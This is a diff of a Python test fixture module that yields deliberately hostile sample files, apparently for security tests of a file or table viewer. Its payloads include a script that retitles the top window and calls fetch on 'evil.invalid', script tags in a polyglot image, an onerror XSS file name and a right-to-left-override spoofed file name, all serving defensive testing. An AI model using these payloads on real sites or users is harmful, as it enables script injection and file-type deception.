@@ -7,6 +7,9 @@ import json
 from collections.abc import Iterator
 from typing import NamedTuple
 
+from comparator.outputs.tables.store import MEDIA_TYPE
+from tests.worlds.files.kept_tables import kept
+
 EVIL = "http://evil.invalid"
 STOP = "window.top.document.title='owned';window.top.owned=1;fetch('http://evil.invalid/ran')"
 
@@ -166,10 +169,8 @@ def _others() -> Iterator[Hostile]:
     yield Hostile("latin.txt", "text", "text/plain", "caf\xe9 \xfcber".encode("latin-1"))
     yield Hostile("broken.pdf", "pdf", "application/pdf", b"%PDF-1.7\n1 0 obj\n<<>>\n%%EOF")
     yield Hostile("polyglot.png", "image", "image/png", f"<script>{STOP}</script>".encode())
-    yield Hostile(
-        "sheets.xlsx", "xlsx", "application/json", b'{"sheets": [{"name": "<script>", "rows": [["<img>"]]}]}'
-    )
-    yield Hostile("odd.xlsx", "xlsx", "application/json", b'{"sheets": [{"rows": 3}, 4]}')
+    yield Hostile("sheets.xlsx", "xlsx", MEDIA_TYPE, kept({"name": "<script>", "rows": [["<img>"]]}))
+    yield Hostile("odd.xlsx", "xlsx", MEDIA_TYPE, b'{"sheets": [{"rows": 3}, 4]}')
     yield Hostile("page.bin", "binary", "application/octet-stream", f"<script>{STOP}</script>".encode())
     yield Hostile('"><img src=x onerror=fetch(1)>.txt', "text", "text/plain", b"the name is the attack")
     yield Hostile("\u202egpj.exe\u200b.txt", "text", "text/plain", b"the name is the attack")
